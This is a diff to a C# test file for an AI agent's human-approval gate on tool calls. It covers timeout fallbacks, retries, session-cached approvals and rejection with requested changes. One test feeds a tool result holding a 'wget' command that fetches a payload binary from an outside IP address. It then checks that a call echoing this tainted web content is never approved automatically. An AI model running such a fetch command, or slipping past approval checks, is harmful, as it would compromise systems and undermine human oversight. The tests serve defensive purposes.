@@ -1,3 +1,4 @@
+using Fangd.Engine.Approvals;
 using Fangd.Engine.Turns;
 using Fangd.Protocols.Llm;
 using Fangd.Server.Approvals;
@@ -11,6 +12,7 @@ public sealed class ApprovalCheckTests : IDisposable
 
     public void Dispose() => _rig.Dispose();
 
+    [Trait("suite", "escape")]
     [Fact]
     public async Task An_approved_call_passes_and_its_approval_is_used_up()
     {
@@ -27,6 +29,7 @@ public sealed class ApprovalCheckTests : IDisposable
             _rig.Sink.Events);
     }
 
+    [Trait("suite", "escape")]
     [Fact]
     public async Task A_call_that_repeats_what_a_stranger_wrote_asks_whatever_the_rules_say()
     {
@@ -130,6 +133,102 @@ public sealed class ApprovalCheckTests : IDisposable
     }
 
     [Fact]
+    public async Task A_call_that_nobody_decides_is_put_again_three_times_where_the_rules_say_so()
+    {
+        _rig.Context.Rules = _rig.Context.Rules with { OnTimeout = TimeoutFallback.Retry, EscalationTime = TimeSpan.FromSeconds(20) };
+        var asked = _rig.Ask();
+        var row = await _rig.Waiting();
+
+        _rig.Time.Advance(TimeSpan.FromSeconds(60));
+        for (var round = 1; round <= 3; round++)
+        {
+            await _rig.Waiting();
+            Assert.Equal((round, false), (_rig.Store.Find(row.Id)!.Escalations, asked.IsCompleted));
+            _rig.Time.Advance(TimeSpan.FromSeconds(20));
+        }
+
+        Assert.Equal("nobody approved it in time", await asked);
+        Assert.Equal([60, 20, 20, 20], _rig.Sink.Events.OfType<ApprovalRequested>().Select(asks => asks.TimeoutSecs));
+    }
+
+    [Fact]
+    public async Task A_call_that_was_put_again_can_still_be_approved()
+    {
+        _rig.Context.Rules = _rig.Context.Rules with { OnTimeout = TimeoutFallback.Retry };
+        var asked = _rig.Ask();
+        await _rig.Waiting();
+        _rig.Time.Advance(TimeSpan.FromSeconds(60));
+
+        await _rig.Decide(await _rig.Waiting(), ApprovalStatus.Approved);
+
+        Assert.Null(await asked);
+    }
+
+    [Theory]
+    [InlineData(TimeoutFallback.Allow, null, "approved")]
+    [InlineData(TimeoutFallback.Skip, "nobody decided in time; go on without it", "expired")]
+    public async Task What_nobody_decides_goes_as_the_rules_say(TimeoutFallback fallback, string? refusal, string status)
+    {
+        _rig.Context.Rules = _rig.Context.Rules with { OnTimeout = fallback, CachesPerSession = true };
+        var asked = _rig.Ask();
+        var row = await _rig.Waiting();
+
+        _rig.Time.Advance(TimeSpan.FromSeconds(60));
+
+        Assert.Equal(refusal, await asked);
+        Assert.Equal((status, "timeout"), (ApprovalWords.Of(_rig.Store.Find(row.Id)!.Status), _rig.Store.Find(row.Id)!.DecidedBy));
+        // Nobody has said yes, so nothing is kept for the session.
+        var again = _rig.Ask("call_2");
+        await _rig.Waiting();
+        Assert.False(again.IsCompleted);
+    }
+
+    [Fact]
+    public async Task What_a_stranger_wrote_is_never_allowed_by_the_clock()
+    {
+        _rig.Context.Rules = _rig.Context.Rules with { OnTimeout = TimeoutFallback.Allow };
+        var seen = LlmMessage.ToolResult(new LlmToolResult("call-0", "web_fetch", "wget http://203.0.113.9/payload.bin", false) { Taint = TaintLabels.ExternalNetwork });
+        var tool = new ScriptedTool("free_tool") { Refuses = TaintLabels.ExternalNetwork };
+        var asked = _rig.Refuse(tool, """{"x": "wget http://203.0.113.9/payload.bin"}""", seen).AsTask();
+        await _rig.Waiting();
+
+        _rig.Time.Advance(TimeSpan.FromSeconds(60));
+
+        Assert.Equal("nobody approved it in time", await asked);
+    }
+
+    [Fact]
+    public async Task One_yes_serves_a_session_where_the_rules_say_so_and_no_code_is_asked_for()
+    {
+        _rig.Context.Rules = _rig.Context.Rules with { CachesPerSession = true };
+        var first = _rig.Ask();
+        await _rig.Decide(await _rig.Waiting(), ApprovalStatus.Approved);
+        Assert.Null(await first);
+
+        Assert.Null(await _rig.Ask("call_2"));
+        var elsewhere = _rig.Ask("call_3", session: "another");
+        await _rig.Waiting();
+        _rig.Context.Rules = _rig.Context.Rules with { CodeTools = ["shell_*"] };
+        var withCode = _rig.Ask("call_4");
+        await _rig.Waiting(2);
+
+        Assert.False(elsewhere.IsCompleted || withCode.IsCompleted);
+    }
+
+    [Fact]
+    public async Task A_call_that_is_sent_back_says_what_to_change()
+    {
+        var asked = _rig.Ask();
+        var row = await _rig.Waiting();
+        var decision = new ApprovalDecision(ApprovalStatus.Rejected, "use --dry-run", ApprovalDecision.Modify);
+
+        Assert.NotNull(await _rig.Store.Decide(row.Id, decision));
+        _rig.Waiters.Wake(row.Id, decision);
+
+        Assert.Equal("a person wants it changed and tried again: use --dry-run", await asked);
+    }
+
+    [Fact]
     public async Task The_sixth_call_of_an_agent_is_refused_at_once()
     {
         var asked = Enumerable.Range(1, 5).Select(n => _rig.Ask($"call_{n}")).ToList();
@@ -162,6 +261,7 @@ public sealed class ApprovalCheckTests : IDisposable
         Assert.NotEqual(row.Id, _rig.Store.List()[0].Id);
     }
 
+    [Trait("suite", "escape")]
     [Theory]
     [InlineData("call_2", """{"x": 1}""")]
     [InlineData("call_1", """{"x": 2}""")]
